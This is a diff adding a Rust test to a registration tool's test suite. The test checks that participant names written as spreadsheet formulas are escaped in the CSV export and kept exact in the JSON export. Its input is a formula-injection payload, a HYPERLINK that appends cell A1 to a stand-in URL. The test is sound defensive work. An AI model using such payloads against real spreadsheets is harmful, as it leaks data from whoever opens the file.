@@ -195,6 +195,22 @@ fn export_participants_writes_csv_and_json() {
 }
 
 #[test]
+fn a_name_written_as_a_formula_is_text_in_the_csv_export_and_exact_in_json() {
+    let cli = Cli::new();
+    // Anyone can register, and organisers open CSV exports in spreadsheets, which would run this.
+    let name = "=HYPERLINK(\"http://example.test/?\"&A1,\"Open\")";
+    let registered = simulate(&cli, "56", &[], &format!("/start\n1\n1\n{name}\n2000\n1\n6\n-Novi Sad\n1\n1\n"));
+    assert!(registered.contains("You are registered"), "{registered}");
+    let csv = stdout(&cli.run(&["export", "participants"]));
+    let row = csv.lines().nth(1).expect("one participant");
+    assert!(row.starts_with(r#"56,"'=HYPERLINK(""http://example.test/?""&A1,""Open"")",en,RS,"#), "{row}");
+    assert!(row.contains(",'-Novi Sad,"), "{row}");
+    let json = stdout(&cli.run(&["export", "participants", "--format", "json"]));
+    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
+    assert_eq!((value[0]["name"].as_str(), value[0]["municipality"].as_str()), (Some(name), Some("-Novi Sad")));
+}
+
+#[test]
 fn simulate_registers_in_albanian_from_a_pipe_and_exits_at_the_end() {
     let cli = Cli::new();
     let out = simulate(&cli, "1", &[], "/start\n2\n1\nDrita\n2001\n1\n1\nShkoder\n1\n1\n/mydata\n");
